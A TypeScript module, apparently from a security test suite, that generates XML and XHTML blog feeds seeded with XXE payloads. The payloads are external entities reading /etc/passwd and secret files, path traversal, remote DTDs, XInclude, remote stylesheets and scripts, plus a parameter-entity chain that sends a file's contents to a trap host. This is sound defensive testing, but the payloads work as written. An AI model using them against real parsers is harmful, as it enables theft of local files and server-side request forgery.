import { trapHost } from '../../judge-run.ts';
import { cyclic } from '../../random.ts';
import { type Blog, harmlessBlog, manyPosts } from '../blog.ts';
import { xmlFormats } from '../formats/formats.ts';
import { jsonLdPage } from '../formats/pages.ts';
import { outside } from '../hostile.ts';
import type { Kind } from './kind.ts';

/** XML and pages that tell their reader to open files of the machine, or addresses that nobody has named. */
export const outward: Kind = (round, random) => {
  const [name, type, text] = cyclic(all, round);
  const format = random.pick([...xmlFormats, xhtml]);
  const source = format
    .write(harmlessBlog(manyPosts(3, { title: 'Report §', html: '<p>§</p>', author: '§' })))
    .replace(/\?>/, `?>${type}`)
    .replaceAll('§', text)
    .replaceAll(']]>', `]]>${text}`);
  return { name: `${format.name} with ${name}`, file: format.file, source };
};

const xhtml = {
  name: 'a page of XHTML',
  file: 'page.xhtml',
  write: (blog: Blog) => `<?xml version="1.0"?>${jsonLdPage(blog)}`,
};

const files = [`file://${outside}/secret.txt`, 'file:///etc/passwd', '/etc/passwd', `../../../outside/secret.txt`];
const far = `http://${trapHost}/evil.dtd`;

const all: readonly (readonly [name: string, type: string, text: string])[] = [
  ...files.map((file) => [`an entity of ${file}`, `<!DOCTYPE x [<!ENTITY e SYSTEM "${file}">]>`, '&e;'] as const),
  ['an entity from the web', `<!DOCTYPE x [<!ENTITY e SYSTEM "${far}">]>`, '&e;'],
  ['an entity from a public name', `<!DOCTYPE x [<!ENTITY e PUBLIC "-//X//Y" "${far}">]>`, '&e;'],
  ['a document type from the web', `<!DOCTYPE rss SYSTEM "${far}">`, '&e;'],
  ['a document type of the machine', `<!DOCTYPE rss SYSTEM "${files[0]}">`, '&e;'],
  ['a parameter entity from the web', `<!DOCTYPE x [<!ENTITY % p SYSTEM "${far}"> %p;]>`, '&e;'],
  [
    'a parameter entity that sends a file away',
    `<!DOCTYPE x [<!ENTITY % f SYSTEM "${files[0]}"><!ENTITY % p "<!ENTITY e SYSTEM 'http://${trapHost}/?%f;'>">%p;]>`,
    '&e;',
  ],
  ['a style sheet from the web', `<?xml-stylesheet type="text/xsl" href="${far}"?>`, 'x'],
  ['XInclude', '', `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${files[0]}"/>`],
  [
    'a schema from the web',
    '',
    `<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${far}"/>`,
  ],
  [
    'frames and scripts from the web',
    '',
    `<iframe src="${far}"></iframe><script src="${far}"></script><link rel="import" href="${far}">`,
  ],
  [
    'a context of JSON-LD from the web',
    '',
    `<script type="application/ld+json">{"@context":"${far}","@type":"LiveBlogPosting"}</script>`,
  ],
];
